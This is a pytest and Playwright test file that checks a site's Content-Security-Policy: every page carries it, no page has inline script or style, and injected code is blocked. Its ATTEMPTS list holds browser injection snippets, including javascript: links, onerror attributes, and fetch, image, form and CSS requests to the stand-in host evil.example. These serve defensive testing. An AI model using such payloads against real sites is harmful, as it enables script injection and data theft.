"""The Content-Security-Policy: that every page has it and no script of its own, and what it stops in a browser."""

from __future__ import annotations

import contextlib
import html
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from survey.render.pages.csp import POLICY

_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_the_policy_has_no_exception() -> None:
    assert "script-src 'self';" in POLICY
    assert '"' not in POLICY and "unsafe" not in POLICY and "sha256" not in POLICY


def test_every_page_has_the_policy_before_anything_that_loads(real_site: Path) -> None:
    for path in real_site.rglob("*.html"):
        text = path.read_text("utf-8")
        (said,) = _META.findall(text)
        assert html.unescape(said) == POLICY, path
        assert text.index("Content-Security-Policy") < min(text.index("<link"), text.index("<script")), path


def test_no_page_has_a_script_within_it(real_site: Path) -> None:
    for path in real_site.rglob("*.html"):
        for attributes, text in re.findall(r"<script([^>]*)>(.*?)</script>", path.read_text("utf-8"), re.DOTALL):
            assert "application/ld+json" in attributes or (" src=" in attributes and not text), path


ATTEMPTS = {
    "inline script": "() => { const s = document.createElement('script'); s.textContent = 'hit()'; document.body.append(s); }",
    "script as data": "() => { const s = document.createElement('script'); s.src = 'data:text/javascript,hit()'; document.body.append(s); }",
    "foreign script": "() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); }",
    "attribute": "() => { const i = new Image(); i.setAttribute('onerror', 'hit()'); i.src = 'data:'; document.body.append(i); }",
    "link": "() => { const a = document.createElement('a'); a.href = 'javascript:hit()'; document.body.append(a); a.click(); }",
    "frame": "() => { const f = document.createElement('iframe'); f.src = 'data:text/html,a'; document.body.append(f); }",
    "style": "() => { const s = document.createElement('style'); s.textContent = 'body {background: url(https://evil.example/)}'; document.body.append(s); }",
    "picture": "() => { new Image().src = 'https://evil.example/x.png'; }",
    "request": "() => { fetch('https://evil.example/').catch(() => {}); }",
    "object": "() => { const o = document.createElement('object'); o.data = 'https://evil.example/'; document.body.append(o); }",
    "form": "() => { const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit(); }",
    "text as HTML": "() => { document.body.innerHTML = '<p>text</p>'; }",
    "text as a document": "() => { document.write('<p>text</p>'); }",
    "text as a function": "() => { setTimeout('hit()'); }",
    "another policy": "() => { trustedTypes.createPolicy('evil', { createHTML: (text) => text }); }",
}


@pytest.mark.parametrize("attempt", ATTEMPTS.values(), ids=ATTEMPTS)
def test_what_slips_in_does_not_run_and_calls_nobody(browser: Browser, address: str, attempt: str) -> None:
    page = browser.new_page()
    answered: list[str] = []
    page.route(
        "https://evil.example/**", lambda route: (answered.append(route.request.url), route.fulfill(body="hit()"))
    )
    page.goto(f"{address}papers/han2016deep/")
    page.evaluate(
        "() => { window.hits = []; window.hit = () => hits.push(1);"
        " window.stopped = []; document.addEventListener('securitypolicyviolation', (event) => stopped.push(event)); }"
    )
    with contextlib.suppress(Error):  # some are refused aloud
        page.evaluate(attempt)
    page.wait_for_function("() => stopped.length")
    assert page.evaluate("() => hits.length") == 0
    assert not answered
    page.close()


SCRIPTS = {
    "assets/javascripts/sort.js": True,
    "../survey/search/names.js": True,
    "../x.js": False,
    "../survey-of-others/x.js": False,
    "https://evil.example/x.js": False,
    "data:text/javascript,1": False,
}


def test_scripts_of_the_site_alone_are_let_in(browser: Browser, address: str) -> None:
    """What lies beside the site on its host is not the site's."""
    page = browser.new_page()
    page.goto(address)
    let_in = "text => { try { document.createElement('script').src = text; return true } catch { return false } }"
    assert {script: page.evaluate(let_in, script) for script in SCRIPTS} == SCRIPTS
    page.close()


def test_nothing_is_kept_but_the_choice_of_colours(page: Page, address: str) -> None:
    kept = "() => [document.cookie, sessionStorage.length, ...Object.keys(localStorage)]"
    page.goto(f"{address}themes/network-compression/")
    assert page.evaluate(kept) == ["", 0], "nothing without a choice"
    page.get_by_role("button", name="Switch to dark").click()
    page.goto(f"{address}explore/")
    assert page.evaluate(kept) == ["", 0, "/survey/.scheme"]


def test_no_page_asks_for_a_style_that_the_policy_stops(real_site: Path) -> None:
    for path in real_site.rglob("*.html"):
        found = re.search(r"<style|<[a-z][^<>]* style=", path.read_text("utf-8"))
        assert not found, (path, found)
